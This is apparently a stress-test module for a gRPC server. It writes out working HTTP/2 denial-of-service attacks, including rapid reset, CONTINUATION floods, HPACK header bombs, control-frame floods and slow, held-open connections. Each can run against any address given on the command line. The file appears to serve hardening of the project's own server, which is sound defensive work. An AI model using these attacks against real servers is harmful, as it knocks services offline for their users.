"""What an HTTP/2 client can send to harm a gRPC server. `python -m tests.stress.http2_attacks ADDRESS NAME BYTES`."""

import os
import socket
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from enum import StrEnum, unique
from itertools import chain, count, repeat

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CLOSE_SESSION = b"/gateway.v1.SessionService/CloseSession"
SEND_TIMEOUT_S = 0.1
"""A server that does not read for this long has stopped reading: the next connection is tried."""
PIECE = 64 * 1024


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def field(name: bytes, value: bytes) -> bytes:
    """A header field that is not compressed. At most 126 bytes each."""
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


def head(path: bytes) -> bytes:
    """The header block of a gRPC request."""
    fields = {
        b":method": b"POST",
        b":scheme": b"http",
        b":path": path,
        b":authority": b"localhost",
        b"content-type": b"application/grpc",
        b"te": b"trailers",
    }
    return b"".join(field(*each) for each in fields.items())


@unique
class Attack(StrEnum):
    """What is sent on one connection."""

    GARBAGE = "random bytes"
    EMPTY_DATA = "empty DATA frames"
    SETTINGS = "SETTINGS, answers not read"
    PINGS = "PING, answers not read"
    RESETS = "RST_STREAM of streams that are not open"
    RAPID_RESET = "requests that are reset at once"
    CONTINUATIONS = "CONTINUATION without end"
    HEADER_BOMB = "requests whose compressed headers are large"
    WINDOW_UPDATES = "WINDOW_UPDATE of one byte"
    PRIORITIES = "PRIORITY"
    UNKNOWN = "frames of an unknown type"
    HALF_REQUESTS = "requests without an end"
    REQUESTS = "requests that are not messages"


_READS = frozenset({Attack.RAPID_RESET, Attack.HEADER_BOMB, Attack.HALF_REQUESTS, Attack.REQUESTS})
"""Of these the answers are read: the server would otherwise stop to read."""


def _open(stream: int) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, head(CLOSE_SESSION))


def _header_bomb() -> Iterator[bytes]:
    # The field enters the compression table with the first request. Each byte of the later ones is the whole field.
    large = b"\x40\x01a\x7f\xf1\x1d" + b"x" * 3952
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, head(CLOSE_SESSION) + large)
    for stream in count(3, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, head(CLOSE_SESSION) + b"\xbe" * 16_000)


def _continuations() -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, head(CLOSE_SESSION))
    yield from repeat(frame(CONTINUATION, 0, 1, field(b"x-more", b"x" * 100) * 100))


_FRAMES: dict[Attack, Callable[[], Iterator[bytes]]] = {
    Attack.GARBAGE: lambda: (os.urandom(PIECE) for _ in count()),
    Attack.EMPTY_DATA: lambda: chain([_open(1)], repeat(frame(DATA, 0, 1) * 1000)),
    Attack.SETTINGS: lambda: repeat(frame(SETTINGS, payload=b"\0\4\0\1\0\0") * 1000),
    Attack.PINGS: lambda: repeat(frame(PING, payload=b"12345678") * 1000),
    Attack.RESETS: lambda: repeat(frame(RST_STREAM, 0, 1, bytes(4)) * 1000),
    Attack.RAPID_RESET: lambda: (_open(each) + frame(RST_STREAM, 0, each, b"\0\0\0\x08") for each in count(1, 2)),
    Attack.CONTINUATIONS: _continuations,
    Attack.HEADER_BOMB: _header_bomb,
    Attack.WINDOW_UPDATES: lambda: chain([_open(1)], repeat(frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1") * 1000)),
    Attack.PRIORITIES: lambda: repeat(frame(PRIORITY, 0, 3, bytes(5)) * 1000),
    Attack.UNKNOWN: lambda: repeat(frame(0xFA, 0, 0, bytes(1000)) * 10),
    Attack.HALF_REQUESTS: lambda: (
        _open(each) + frame(DATA, 0, each, b"\0\0\0\x40\0" + bytes(50)) for each in count(1, 2)
    ),
    Attack.REQUESTS: lambda: (_open(each) + frame(DATA, END_STREAM, each, b"\0\0\0\0\1\xff") for each in count(1, 2)),
}
"""What each attack sends after the preface, without an end."""


def connect(address: str) -> socket.socket:
    """A connection to `host:port` or `unix:/path`."""
    if address.startswith("unix:"):
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(address.removeprefix("unix:"))
        return connection
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)))


@dataclass
class Sent:
    """What an attacker sent."""

    octets: int = 0
    connections: int = 0


def send(address: str, attack: Attack, total: int) -> Sent:
    """Send this many bytes, on another connection whenever the server closes one or stops reading."""
    sent = Sent()
    while sent.octets < total:
        sent.connections += 1
        try:
            with connect(address) as connection:
                connection.settimeout(SEND_TIMEOUT_S)
                _send_on(connection, attack, total, sent)
        except OSError:
            time.sleep(0.01)
    return sent


def _send_on(connection: socket.socket, attack: Attack, total: int, sent: Sent) -> None:
    frames, buffered = _FRAMES[attack](), bytearray(PREFACE + frame(SETTINGS))
    while sent.octets < total:
        while len(buffered) < PIECE:
            buffered += next(frames)
        connection.sendall(buffered)
        sent.octets += len(buffered)
        buffered.clear()
        if attack in _READS:
            with suppress(BlockingIOError):
                while connection.recv(PIECE, socket.MSG_DONTWAIT):
                    pass


class UnfinishedRequests:
    """One connection with requests that are sent but for the last byte, as far as the server's windows allow."""

    def __init__(self, address: str, requests: int, size: int) -> None:
        self._connection = connect(address)
        self._window, self._initial = 65_535, 65_535
        self._windows = dict.fromkeys(range(1, 2 * requests, 2), 0)
        self._unsent = dict.fromkeys(self._windows, size + 4)
        self._received = b""
        self._connection.sendall(PREFACE + frame(SETTINGS) + frame(WINDOW_UPDATE, 0, 0, (1 << 20).to_bytes(4, "big")))
        block, prefix = head(CLOSE_SESSION), b"\0" + size.to_bytes(4, "big")
        opened = (frame(HEADERS, END_HEADERS, each, block) + frame(DATA, 0, each, prefix) for each in self._windows)
        self._connection.sendall(b"".join(opened))
        self._window -= 5 * requests
        self._spent = dict.fromkeys(self._windows, 5)

    def work(self) -> bool:
        """Read what the server sent, and send what it allows. False where it closed the connection."""
        try:
            if not self._read():
                return False
            for stream in list(self._unsent):
                self._send(stream)
        except OSError:
            return False
        return True

    def _send(self, stream: int) -> None:
        while (room := min(self._window, self._initial + self._windows[stream] - self._spent[stream], 16_384)) > 0:
            size = min(room, self._unsent[stream] - 5)
            if size <= 0:
                return
            self._connection.sendall(frame(DATA, 0, stream, bytes(size)))
            self._window -= size
            self._spent[stream] += size
            self._unsent[stream] -= size

    def _read(self) -> bool:
        with suppress(BlockingIOError):
            while data := self._connection.recv(PIECE, socket.MSG_DONTWAIT):
                self._received += data
            return False
        while len(self._received) >= 9:
            size = int.from_bytes(self._received[:3], "big")
            if len(self._received) < 9 + size:
                break
            kind, flags, stream = self._received[3], self._received[4], int.from_bytes(self._received[5:9], "big")
            self._handle(kind, flags, stream, self._received[9 : 9 + size])
            self._received = self._received[9 + size :]
        return True

    def _handle(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        match kind:
            case 4 if not flags:
                for at in range(0, len(payload), 6):
                    if payload[at : at + 2] == b"\0\4":
                        self._initial = int.from_bytes(payload[at + 2 : at + 6], "big")
                self._connection.sendall(frame(SETTINGS, 1))
            case 6 if not flags:
                self._connection.sendall(frame(PING, 1, payload=payload))
            case 8 if not stream:
                self._window += int.from_bytes(payload, "big")
            case 8:
                self._windows[stream] = self._windows.get(stream, 0) + int.from_bytes(payload, "big")
            case 1 | 3:  # refused
                self._unsent.pop(stream, None)


def hold_unfinished(address: str, connections: int, requests: int, size: int, seconds: float) -> int:
    """Keep unfinished requests open for this time. Returns how many connections were open in the end."""
    held = [UnfinishedRequests(address, requests, size) for _ in range(connections)]
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        held = [each for each in held if each.work()]
        time.sleep(0.01)
    return len(held)


def hold_silent(address: str, connections: int, seconds: float) -> int:
    """Keep connections open that send nothing, and open another for each that is closed. Returns how many were."""
    closed, held = 0, [connect(address) for _ in range(connections)]
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for at, connection in enumerate(held):
            if _is_closed(connection):
                closed += 1
                connection.close()
                held[at] = connect(address)
        time.sleep(0.1)
    return closed


def _is_closed(connection: socket.socket) -> bool:
    try:
        return not connection.recv(1, socket.MSG_DONTWAIT)
    except BlockingIOError:
        return False
    except OSError:
        return True


def _main(address: str, name: str, *numbers: str) -> None:
    if name == "unfinished":
        connections, requests, size, seconds = map(int, numbers)
        report: object = hold_unfinished(address, connections, requests, size, seconds)
    elif name == "silent":
        report = hold_silent(address, int(numbers[0]), int(numbers[1]))
    else:
        report = send(address, Attack[name], int(numbers[0]))
    sys.stdout.write(f"{report}\n")


if __name__ == "__main__":
    _main(*sys.argv[1:])
